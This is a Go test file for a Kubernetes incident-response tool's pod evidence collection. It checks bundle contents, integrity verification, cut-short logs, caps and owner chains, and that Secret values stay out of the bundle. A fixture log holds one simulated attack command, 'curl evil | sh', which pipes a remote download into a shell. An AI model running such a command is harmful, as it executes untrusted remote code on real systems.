package kubernetes

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/riposte-sec/riposte/internal/actions"
	"github.com/riposte-sec/riposte/internal/evidence"
	"github.com/riposte-sec/riposte/internal/kubetest"
)

const secretValue = "s3cr3t-value-never-in-evidence"

// evidencePod creates, in ns, a pod of Deployment web (through its
// ReplicaSet) on node, with two containers, a service account and three
// kinds of Secret use, one event about it, and the Secret itself.
func evidencePod(t *testing.T, ns, node string) *corev1.Pod {
	t.Helper()
	s := cluster(t)
	c := s.Client()
	if _, err := c.CoreV1().Secrets(ns).Create(ctx(t), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db-creds"},
		StringData: map[string]string{"password": secretValue}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.CoreV1().ServiceAccounts(ns).Create(ctx(t), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "web-sa"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	owner := s.Deployment(t, ns, "web", 3)
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "web-7d9f-x2x", Namespace: ns, OwnerReferences: []metav1.OwnerReference{*owner}},
		Spec: corev1.PodSpec{
			NodeName: node, ServiceAccountName: "web-sa",
			ImagePullSecrets: []corev1.LocalObjectReference{{Name: "regcred"}},
			Volumes:          []corev1.Volume{{Name: "creds", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "db-creds"}}}},
			Containers: []corev1.Container{
				{Name: "app", Image: "busybox", VolumeMounts: []corev1.VolumeMount{{Name: "creds", MountPath: "/creds"}},
					EnvFrom: []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "api-key"}}}}},
				{Name: "sidecar", Image: "busybox"},
			},
		},
	}
	pod, err := c.CoreV1().Pods(ns).Create(ctx(t), p, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("create pod: %v", err)
	}
	ev := &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "web.1", Namespace: ns},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: ns, Name: pod.Name, UID: pod.UID},
		Reason:         "BackOff", Message: "Back-off restarting failed container", Type: "Warning",
		FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(), Count: 1}
	if _, err := c.CoreV1().Events(ns).Create(ctx(t), ev, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	return pod
}

func TestEvidenceBundle(t *testing.T) {
	s := cluster(t)
	ns := s.Namespace(t, "evid", nil)
	node := "node-" + ns
	const appLog = "2026-01-01T00:00:00Z sh -c 'curl evil | sh'\n2026-01-01T00:00:01Z done\n"
	s.Kubelet(t, node, map[string]string{"app": appLog})
	pod := evidencePod(t, ns, node)
	dir := t.TempDir()
	r, err := New(Config{EvidenceDir: dir}, Deps{REST: s.AdminConfig()})
	if err != nil {
		t.Fatal(err)
	}

	res, err := run(t, r, "pod.evidence", falco(ns, pod.Name), nil)
	if err != nil {
		t.Fatalf("pod.evidence: %v", err)
	}
	bundle := res.Detail["dir"].(string)
	if want := filepath.Join(dir, "inc-1", ns+"_"+pod.Name); filepath.Dir(bundle) != want {
		t.Fatalf("bundle in %s, want under %s", bundle, want)
	}
	sum, err := evidence.Verify(bundle)
	if err != nil || sum != res.SHA256 {
		t.Fatalf("Verify = %s, %v; want the result's %s", sum, err, res.SHA256)
	}
	var m PodManifest
	readJSON(t, filepath.Join(bundle, evidence.ManifestFile), &m)
	var files []string
	for _, f := range m.Files {
		files = append(files, f.Name)
	}
	wantFiles := []string{PodFile, OwnersFile, EventsFile, NodeFile, ServiceAccountFile, "logs-app.txt"}
	if !reflect.DeepEqual(files, wantFiles) {
		t.Fatalf("bundle files %v, want %v", files, wantFiles)
	}
	if len(res.Evidence) != len(wantFiles)+1 {
		t.Fatalf("result lists %d evidence files, want %d with the manifest", len(res.Evidence), len(wantFiles)+1)
	}
	wantPod := ManifestPod{Namespace: ns, Name: pod.Name, UID: string(pod.UID), Node: node, Phase: "Pending", ServiceAccount: "web-sa",
		Owners:  []string{"ReplicaSet/web-7d9f", "Deployment/web"},
		Secrets: []string{"api-key", "db-creds", "regcred"}, Containers: []string{"app", "sidecar"}}
	if !reflect.DeepEqual(m.Pod, wantPod) {
		t.Fatalf("manifest pod\n%+v\nwant\n%+v", m.Pod, wantPod)
	}
	if len(m.Skipped) != 1 || m.Skipped[0].Name != "logs-sidecar.txt" || !strings.HasPrefix(m.Skipped[0].Reason, "logs unavailable: ") ||
		!strings.Contains(m.Skipped[0].Reason, "waiting to start") {
		t.Fatalf("skipped %+v, want logs-sidecar.txt: logs unavailable: … waiting to start", m.Skipped)
	}
	if b, _ := os.ReadFile(filepath.Join(bundle, "logs-app.txt")); string(b) != appLog {
		t.Fatalf("logs-app.txt = %q, want the kubelet's %q", b, appLog)
	}
	var owners []OwnerObject
	readJSON(t, filepath.Join(bundle, OwnersFile), &owners)
	if len(owners) != 2 || owners[1].Kind != "Deployment" || owners[1].Object == nil {
		t.Fatalf("owners.json %+v, want ReplicaSet then Deployment with their objects", owners)
	}
	var events []corev1.Event
	readJSON(t, filepath.Join(bundle, EventsFile), &events)
	if len(events) != 1 || events[0].Reason != "BackOff" {
		t.Fatalf("events.json %+v, want the pod's BackOff event", events)
	}
	var got corev1.Pod
	readJSON(t, filepath.Join(bundle, PodFile), &got)
	if got.UID != pod.UID || got.Kind != "Pod" || got.Spec.NodeName != node {
		t.Fatalf("pod.json is not the pod: %s %s %s", got.Kind, got.UID, got.Spec.NodeName)
	}
	// Never a Secret's value.
	err = filepath.WalkDir(bundle, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if strings.Contains(string(b), secretValue) {
			t.Errorf("%s holds a Secret's value", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestEvidenceKeepsALogCutShort: a kubelet that sends part of a log and
// then hangs: after log_timeout what came is in the bundle, listed in the
// manifest, a skipped entry says the rest is missing, and the bundle
// verifies (a partial file outside the manifest would not).
func TestEvidenceKeepsALogCutShort(t *testing.T) {
	s := cluster(t)
	ns := s.Namespace(t, "evid3", nil)
	node := "node-" + ns
	k := s.Kubelet(t, node, map[string]string{"main": "first line\n"})
	k.Stall = map[string]bool{"main": true}
	s.ScheduledPod(t, ns, "web", node, nil)
	r, err := New(Config{EvidenceDir: t.TempDir()}, Deps{REST: s.AdminConfig()})
	if err != nil {
		t.Fatal(err)
	}
	res, err := run(t, r, "pod.evidence", falco(ns, "web"), actions.Params{"log_timeout": "500ms"})
	if err != nil {
		t.Fatalf("pod.evidence: %v", err)
	}
	dir := res.Detail["dir"].(string)
	if _, err := evidence.Verify(dir); err != nil {
		t.Fatalf("bundle with a cut log does not verify: %v", err)
	}
	// What of the part arrives depends on the API server's buffering
	// (it flushes only when following): some prefix, in the manifest.
	if b, err := os.ReadFile(filepath.Join(dir, "logs-main.txt")); err != nil || !strings.HasPrefix("first line\n", string(b)) {
		t.Fatalf("logs-main.txt = %q (%v), want a prefix of the kubelet's log", b, err)
	}
	var m PodManifest
	readJSON(t, filepath.Join(dir, evidence.ManifestFile), &m)
	if len(m.Skipped) != 1 || m.Skipped[0].Name != "logs-main.txt (rest)" || !strings.HasPrefix(m.Skipped[0].Reason, "logs cut short: ") {
		t.Fatalf("skipped %+v, want the rest of logs-main.txt cut short", m.Skipped)
	}
}

func TestEvidenceUnscheduledAndCapped(t *testing.T) {
	s := cluster(t)
	ns := s.Namespace(t, "evid2", nil)
	s.Pod(t, ns, "pending", nil)
	dir := t.TempDir()
	r, err := New(Config{EvidenceDir: dir}, Deps{REST: s.AdminConfig()})
	if err != nil {
		t.Fatal(err)
	}
	res, err := run(t, r, "pod.evidence", falco(ns, "pending"), nil)
	if err != nil {
		t.Fatalf("pod.evidence: %v", err)
	}
	var m PodManifest
	readJSON(t, res.Detail["manifest"].(string), &m)
	want := map[string]string{NodeFile: "pod is not scheduled on a node", "logs-main.txt": "logs unavailable: pod is not scheduled on a node"}
	got := map[string]string{}
	for _, sk := range m.Skipped {
		got[sk.Name] = sk.Reason
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("skipped %v, want %v", got, want)
	}

	_, err = run(t, r, "pod.evidence", falco(ns, "pending"), actions.Params{"max_bytes": 100})
	if !errors.Is(err, evidence.ErrCap) || !strings.Contains(err.Error(), "the max_bytes parameter") || !strings.Contains(err.Error(), ".incomplete") {
		t.Fatalf("capped evidence: %v, want ErrCap naming max_bytes and the .incomplete bundle", err)
	}

	noDir := newResponder(t, s, Config{})
	if _, err := run(t, noDir, "pod.evidence", falco(ns, "pending"), nil); err == nil || !strings.Contains(err.Error(), "evidence_dir") {
		t.Fatalf("evidence without a directory: %v", err)
	}
	for _, bad := range []actions.Params{{"log_lines": -1}, {"max_bytes": 0}, {"log_timeout": "0s"}, {"log_bytes": "x"}} {
		if _, err := run(t, r, "pod.evidence", falco(ns, "pending"), bad); err == nil || !strings.Contains(err.Error(), "parameter ") {
			t.Errorf("params %v: %v, want an error naming the parameter", bad, err)
		}
	}
}

func readJSON(t *testing.T, path string, v any) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, v); err != nil {
		t.Fatalf("decode %s: %v", path, err)
	}
}

func TestEvidenceOwnerChains(t *testing.T) {
	s := cluster(t)
	r, err := New(Config{EvidenceDir: t.TempDir()}, Deps{REST: s.AdminConfig()})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		kind   string
		want   []string
		unread string // of the last link
	}{
		{"Deployment", []string{"ReplicaSet/web-7d9f", "Deployment/web"}, ""},
		{"StatefulSet", []string{"StatefulSet/web"}, ""},
		{"DaemonSet", []string{"DaemonSet/web"}, ""},
		{"Job", []string{"Job/web-29000000", "CronJob/web"}, ""},
		{"ReplicationController", []string{"ReplicationController/web"}, ""},
		{"Rollout", []string{"Rollout/web"}, "kind Rollout (argoproj.io/v1alpha1) is not one riposte reads"},
		{"gone", []string{"ReplicaSet/web-gone"}, "not found"},
	}
	for _, tc := range cases {
		t.Run(tc.kind, func(t *testing.T) {
			ns := s.Namespace(t, "chain", nil)
			var owner *metav1.OwnerReference
			switch tc.kind {
			case "Deployment":
				owner = s.Deployment(t, ns, "web", 2)
			case "Rollout":
				owner = kubetest.ControllerRef("argoproj.io/v1alpha1", "Rollout", "web", "0b4c0c7e-0000-4000-8000-000000000001")
			case "gone":
				owner = kubetest.ControllerRef("apps/v1", "ReplicaSet", "web-gone", "0b4c0c7e-0000-4000-8000-000000000002")
			default:
				owner = s.Workload(t, ns, tc.kind, "web", 2)
			}
			s.ScheduledPod(t, ns, "web-x", "", owner)
			res, err := run(t, r, "pod.evidence", falco(ns, "web-x"), actions.Params{"log_lines": 0})
			if err != nil {
				t.Fatalf("pod.evidence: %v", err)
			}
			if got := res.Detail["owners"].([]string); !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("owners %v, want %v", got, tc.want)
			}
			var owners []OwnerObject
			readJSON(t, filepath.Join(res.Detail["dir"].(string), OwnersFile), &owners)
			for _, o := range owners {
				// A typed Get leaves kind and apiVersion empty; the bundle
				// names them, so that each object says what it is.
				if m, ok := o.Object.(map[string]any); ok && (m["kind"] != o.Kind || m["apiVersion"] == "" || m["apiVersion"] == nil) {
					t.Errorf("owner %s %s: object has kind %v apiVersion %v", o.Kind, o.Name, m["kind"], m["apiVersion"])
				}
			}
			last := owners[len(owners)-1]
			if tc.unread == "" && (last.Object == nil || last.Unread != "") {
				t.Fatalf("last owner %+v not read", last)
			}
			if tc.unread != "" && (last.Object != nil || !strings.Contains(last.Unread, tc.unread)) {
				t.Fatalf("last owner %+v, want unread %q", last, tc.unread)
			}
		})
	}
}
